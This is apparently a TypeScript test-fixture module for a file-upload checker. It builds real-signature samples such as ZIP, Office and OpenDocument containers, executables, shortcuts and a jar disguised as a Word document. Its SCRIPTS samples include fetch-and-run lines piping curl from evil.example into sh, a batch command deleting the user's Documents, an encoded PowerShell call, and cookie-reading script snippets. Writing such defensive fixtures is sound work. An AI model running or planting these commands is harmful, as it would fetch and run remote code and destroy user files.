/**
 * Files with real signatures for the document tests: a ZIP writer (stored or deflated entries,
 * real CRCs and central directory, readable by unzip/zipfile), minimal but well-formed Office Open
 * XML and OpenDocument containers, and the headers of programs, shortcuts and scripts.
 */
import { crc32, deflateRawSync } from 'node:zlib';
import { pdf, png } from '../../src/server/admin/files';

export interface ZipInput {
  name: string;
  data: string | Buffer;
  /** Stored (no compression); ODF requires it for its `mimetype` entry. */
  store?: boolean;
}

export function zip(entries: readonly ZipInput[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const raw = Buffer.isBuffer(e.data) ? e.data : Buffer.from(e.data, 'utf8');
    const body = e.store ? raw : deflateRawSync(raw);
    const name = Buffer.from(e.name, 'utf8');
    const crc = crc32(raw);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(e.store ? 0 : 8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(e.store ? 0 : 8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += local.length + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const OOXML = 'application/vnd.openxmlformats-officedocument';

function contentTypes(main: string, mainType: string, extra = ''): string {
  return (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    `<Override PartName="/${main}" ContentType="${mainType}"/>${extra}</Types>`
  );
}

function rels(main: string): string {
  return (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${main}"/>` +
    '</Relationships>'
  );
}

export function docx(text = 'Field protocol'): Buffer {
  return zip([
    {
      name: '[Content_Types].xml',
      data: contentTypes('word/document.xml', `${OOXML}.wordprocessingml.document.main+xml`),
    },
    { name: '_rels/.rels', data: rels('word/document.xml') },
    {
      name: 'word/document.xml',
      data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
    },
  ]);
}

export function xlsx(): Buffer {
  return zip([
    { name: '[Content_Types].xml', data: contentTypes('xl/workbook.xml', `${OOXML}.spreadsheetml.sheet.main+xml`) },
    { name: '_rels/.rels', data: rels('xl/workbook.xml') },
    {
      name: 'xl/workbook.xml',
      data: '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
    },
  ]);
}

/** A Word document with a VBA project: the same container as docx, with macros. */
export function docm(): Buffer {
  return zip([
    {
      name: '[Content_Types].xml',
      data: contentTypes(
        'word/document.xml',
        'application/vnd.ms-word.document.macroEnabled.main+xml',
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    },
    { name: '_rels/.rels', data: rels('word/document.xml') },
    { name: 'word/document.xml', data: '<w:document xmlns:w="x"><w:body/></w:document>' },
    { name: 'word/vbaProject.bin', data: Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]) },
  ]);
}

export function odt(withMacro = false): Buffer {
  return zip([
    { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', store: true },
    {
      name: 'content.xml',
      data: '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
    },
    {
      name: 'META-INF/manifest.xml',
      data: '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
    },
    ...(withMacro ? [{ name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }] : []),
  ]);
}

/** A Java archive: META-INF/MANIFEST.MF naming a main class, and that class. */
export function jar(): Buffer {
  return zip([
    { name: 'META-INF/MANIFEST.MF', data: 'Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n' },
    { name: 'Evil.class', data: Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]) },
  ]);
}

/** A jar dressed up as a Word document: the office markers are there, so is the manifest. */
export function jarLookingLikeDocx(): Buffer {
  return zip([
    {
      name: '[Content_Types].xml',
      data: contentTypes('word/document.xml', `${OOXML}.wordprocessingml.document.main+xml`),
    },
    { name: 'word/document.xml', data: '<w:document xmlns:w="x"/>' },
    { name: 'META-INF/MANIFEST.MF', data: 'Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n' },
  ]);
}

export function apk(): Buffer {
  return zip([
    { name: 'AndroidManifest.xml', data: Buffer.from([3, 0, 8, 0]) },
    { name: 'classes.dex', data: 'dex\n035\0' },
  ]);
}

/** A macOS app bundle zipped, as mail and browsers ship them. */
export function zippedApp(): Buffer {
  return zip([
    { name: 'Report.app/Contents/Info.plist', data: '<?xml version="1.0"?><plist version="1.0"><dict/></plist>' },
    { name: 'Report.app/Contents/MacOS/Report', data: Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]) },
  ]);
}

/** DOS header ("MZ", e_lfanew) followed by a PE signature: what every .exe/.dll starts with. */
export function exe(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x8664, 0x84); // x86-64
  return b;
}

export function elf(): Buffer {
  const b = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b);
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(0x3e, 18); // x86-64
  return b;
}

/** [MS-SHLLINK] header: size 0x4C, the shell link CLSID, then link flags. */
export function lnk(): Buffer {
  const b = Buffer.alloc(76);
  Buffer.from([
    0x4c, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x46,
  ]).copy(b);
  b.writeUInt32LE(0x9b, 20);
  return b;
}

export function machO(): Buffer {
  return Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01, 0x03, 0, 0, 0, 0x02, 0, 0, 0]);
}

export const SCRIPTS = {
  sh: '#!/bin/sh\ncurl -s https://evil.example/x | sh\n',
  bat: '@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n',
  cmd: 'echo off\r\npowershell -enc ZQBjAGgAbwA=\r\n',
  desktop: '[Desktop Entry]\nType=Application\nName=Field report\nExec=sh -c "curl evil.example | sh"\n',
  html: '<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n',
  hta: '<html><head><HTA:APPLICATION ID="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>',
  svg: '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
  js: 'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc.exe");\n',
};

export const SAFE = {
  pdf: () => pdf('Field guide', ['Rain gauges are read at 8:00.']),
  png: () => png(4, 4, () => [0, 128, 255]),
  jpeg: () =>
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9]),
  gif: () => Buffer.concat([Buffer.from('GIF89a', 'latin1'), Buffer.from([1, 0, 1, 0, 0, 0, 0, 0x3b])]),
  webp: () => {
    const b = Buffer.alloc(20);
    b.write('RIFF', 0, 'latin1');
    b.writeUInt32LE(12, 4);
    b.write('WEBPVP8L', 8, 'latin1');
    return b;
  },
  text: () => Buffer.from('Gauges are read every morning.\nReport anomalies to the coordinator.\n'),
  csv: () => Buffer.from('station;date;rain\nA;2024-05-01;3.2\n'),
};
